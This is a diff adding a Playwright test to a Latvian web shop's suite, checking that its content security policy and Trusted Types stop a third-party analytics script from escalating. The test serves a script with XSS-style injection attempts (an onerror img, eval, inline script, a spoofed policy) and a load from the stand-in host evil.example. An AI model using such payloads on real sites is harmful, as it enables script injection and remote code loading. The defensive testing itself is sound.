@@ -1,5 +1,5 @@
 import { setTimeout as pause } from 'node:timers/promises'
-import { expect, type Page } from '@playwright/test'
+import { expect, type Page, test as withoutReports } from '@playwright/test'
 import { agreeAndOrder, demo, shopperWith, toPayment } from '../support/journey-carts.ts'
 import { expectAccessible } from '../support/accessible.ts'
 import { newEmail } from '../support/journey-people.ts'
@@ -7,6 +7,7 @@ import { fillRegistration } from '../support/journey-registration.ts'
 import { test } from '../support/journey.ts'
 
 test.use({ storageState: { cookies: [], origins: [] } })
+withoutReports.use({ storageState: { cookies: [], origins: [] } })
 
 const banner = (page: Page) =>
   page.getByRole('region', { name: 'Vai drīkstam skaitīt apmeklējumus?' })
@@ -160,6 +161,48 @@ test('after a yes the networks’ own scripts run under the content policy', asy
       'www.googletagmanager.com/gtag/js',
     ])
 })
+
+// S-m5: what a network's script would do beyond the policy that bears its name.
+const reaching = `
+  for (const reach of [
+    () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
+    () => trustedTypes.createPolicy('networks', { createScriptURL: (address) => address }),
+    () => { document.body.innerHTML = '<img src=x onerror="hostile = 1">' },
+    () => { document.createElement('script').text = 'hostile = 1' },
+    () => { document.createElement('script').src = 'https://evil.example/more.js' },
+    () => eval('hostile = 1'),
+  ]) try { reach(); reached = 1 } catch { stopped = (window.stopped ?? 0) + 1 }
+  const google = trustedTypes.createPolicy('goog#html', { createScriptURL: (address) => address })
+  const script = document.createElement('script')
+  script.src = google.createScriptURL('https://evil.example/more.js')
+  document.head.append(script)`
+
+withoutReports(
+  'a network’s script that reaches further is stopped, and the shop goes on',
+  async ({ page }) => {
+    const asked: string[] = []
+    await page.route(
+      (url) => url.hostname !== 'localhost',
+      (route) => {
+        const { hostname, pathname } = new URL(route.request().url())
+        asked.push(hostname)
+        const body = pathname === '/gtag/js' ? reaching : ''
+        return route.fulfill({ contentType: 'text/javascript', body })
+      },
+    )
+    await page.goto('/good/101')
+    await banner(page).getByRole('button', { name: 'Piekrist visam' }).click()
+    const found = () =>
+      page.evaluate(() => {
+        const page = window as unknown as Record<string, unknown>
+        return [page['stopped'], page['reached'], page['hostile']]
+      })
+    await expect.poll(found).toEqual([6, undefined, undefined])
+    await page.getByRole('button', { name: 'Pievienot grozam', exact: true }).click()
+    await expect(page.getByRole('link', { name: /^Grozs, 1/ })).toBeVisible()
+    expect(asked).not.toContain('evil.example')
+  },
+)
 
 test('an answer given before the visitor has a token is recorded under that token', async ({
   page,
